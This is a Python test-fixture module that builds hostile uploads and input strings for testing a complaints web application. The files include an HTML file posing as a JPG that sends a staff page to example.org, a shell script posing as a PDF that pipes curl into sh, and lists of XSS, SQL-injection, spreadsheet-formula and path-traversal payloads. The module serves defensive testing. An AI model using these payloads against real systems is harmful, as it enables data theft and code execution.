"""The files and strings that hostile or careless users send, made in code.

A fresh clone must pass its own tests with nothing beside it, so nothing here is read from outside
the repository: each file is built from scratch, written once per test run into a temporary folder
(tests take paths, as a browser's file picker does) and removed when the run ends.
"""

import atexit
import io
import shutil
import tempfile
from pathlib import Path

from PIL import Image, PngImagePlugin

# EXIF tags and the GPS IFD, by number (TIFF/EXIF 2.32).
ARTIST, MAKE, IMAGE_DESCRIPTION, GPS_IFD = 0x013B, 0x010F, 0x010E, 0x8825
GPS_LATITUDE_REF, GPS_LATITUDE, GPS_LONGITUDE_REF, GPS_LONGITUDE = 1, 2, 3, 4


def photo_with_gps() -> bytes:
    """A JPEG as a phone takes it: where (1°56'S 29°52'E, near Kigali), with what, by whom."""
    image = Image.new("RGB", (96, 64), (120, 90, 60))
    exif = Image.Exif()
    exif[ARTIST] = "Zxqartist Photographer"
    exif[MAKE] = "Zxqmake Phones"
    exif[IMAGE_DESCRIPTION] = "Zxqdescription taken at the camp gate"
    exif[GPS_IFD] = {
        GPS_LATITUDE_REF: "S",
        GPS_LATITUDE: (1.0, 56.0, 0.0),
        GPS_LONGITUDE_REF: "E",
        GPS_LONGITUDE: (29.0, 52.0, 0.0),
    }
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=85)
    return out.getvalue()


def screenshot_with_text_chunks() -> bytes:
    """A PNG whose tEXt and iTXt chunks name its author."""
    chunks = PngImagePlugin.PngInfo()
    chunks.add_text("Author", "Zxqauthor Name")
    chunks.add_itxt("Comment", "Zxqcomment: sent from my phone")
    out = io.BytesIO()
    Image.new("RGB", (80, 40), (250, 250, 250)).save(out, "PNG", pnginfo=chunks)
    return out.getvalue()


def minimal_pdf() -> bytes:
    """The smallest PDF a reader opens: one empty page, with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


HTML_NAMED_AS_JPG = (
    b"<!DOCTYPE html>\n<html><body><script>fetch('/staff/').then(r => r.text())"
    b".then(t => new Image().src = 'https://example.org/?' + btoa(t))</script></body></html>\n"
)
SCRIPT_NAMED_AS_PDF = b"#!/bin/sh\ncurl -s https://example.org/x | sh\n"

# One string a line, each a kind of input that has broken real systems. `\x00` stands for a real
# null byte, which a text file cannot hold; tests replace it.
HOSTILE_STRINGS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="https://example.org"></iframe>',
    "<style>body{display:none}</style>",
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.META }}",
    "${7*7}",
    "'; DROP TABLE complaints_complaint; --",
    '" OR "1"="1',
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "CON",
    "nul.jpg",
    "\u202egpj.exe",
    "zero\u200bwidth\u200djoiner\ufefftext",
    "\uff26\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48\u3000\uff54\uff45\uff58\uff54",
    "Uburenganzira bwa muntu: ikirego, ubuhamya, umutangabuhamya",
    "Haki za binadamu: malalamiko, ushahidi, mashahidi",
    "Droits humains : plainte, témoin, réfugié, apatride",
    "\U0001f469\U0001f3fe\u200d\u2696\ufe0f\U0001f1f7\U0001f1fc emoji with modifiers and flags",
    "Z\u0351\u036b\u0343a\u0352\u0364l\u0357\u0310g\u033e\u0305o\u0308\u0303 combining marks",
    "\\x00 null byte in text",
]

FILES = {
    "photo_with_gps.jpg": photo_with_gps,
    "screenshot_with_text_chunks.png": screenshot_with_text_chunks,
    "minimal.pdf": minimal_pdf,
    "html_named_as.jpg": lambda: HTML_NAMED_AS_JPG,
    "script_named_as.pdf": lambda: SCRIPT_NAMED_AS_PDF,
    "hostile_strings.txt": lambda: ("\n".join(HOSTILE_STRINGS) + "\n").encode(),
}


def testdata_folder() -> Path:
    """A folder holding every file above, made for this test run and removed after it."""
    folder = Path(tempfile.mkdtemp(prefix="afr-testdata-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    for name, build in FILES.items():
        (folder / name).write_bytes(build())
    return folder
